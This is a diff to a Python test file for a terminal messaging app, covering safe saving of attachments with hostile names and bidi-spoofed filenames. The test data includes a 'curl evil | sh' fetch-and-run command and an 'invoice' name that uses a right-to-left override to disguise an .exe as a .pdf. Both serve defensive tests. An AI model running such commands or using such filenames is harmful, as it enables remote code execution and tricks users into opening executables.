@@ -271,7 +271,11 @@ async def test_a_hostile_name_is_saved_inside_the_folder_and_overwrite_is_asked(
         assert (out / "bashrc").read_text() == "my own edits"
 
         dialog.query_one("#save-button", Button).press()
-        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmOverwrite), "asked again")
+        await wait_until(  # the screen first, its buttons a moment later
+            pilot,
+            lambda: isinstance(app.screen, ConfirmOverwrite) and app.screen.query("#overwrite-yes"),
+            "asked again",
+        )
         app.screen.query_one("#overwrite-yes", Button).press()
         await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "replaced")
     assert (out / "bashrc").read_text() == "curl evil | sh\n"
@@ -341,3 +345,24 @@ async def test_the_paperclip_works_in_a_reply_and_in_a_documents_messages_panel(
     assert thread is not None
     [first] = (await store.list_messages(thread.id)).items
     assert [a.filename for a in first.attachments] == ["po-confirmation.pdf"]
+
+
+async def test_a_bidi_or_control_name_is_saved_without_them(
+    network, store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    # U+202E would show "invoice\u202efdp.exe" as "invoiceexe.pdf"; U+009B is a C1 CSI.
+    conv_id = await received(network, store, "invoice\u202efdp\x9b.exe", b"MZ")
+    out = tmp_path / "saved"
+    out.mkdir()
+    app = NetmsgApp(store, poll_interval=0.05)
+    async with app.run_test(size=(80, 24)) as pilot:
+        await start(pilot)
+        dialog = await open_save_dialog(pilot, conv_id)
+        details = str(dialog.query_one("#save-details", Static).render())
+        assert details.startswith("invoice⟨U+202E⟩fdp⟨U+009B⟩.exe\n")
+        shown = str(dialog.query_one("#save-name", Static).render())
+        assert shown == "File name: invoice_fdp_.exe (renamed for safety)"
+        await save_into(pilot, dialog, out)
+        await wait_until(pilot, lambda: isinstance(app.screen, ThreadScreen), "saved")
+    assert [p.name for p in out.iterdir()] == ["invoice_fdp_.exe"]
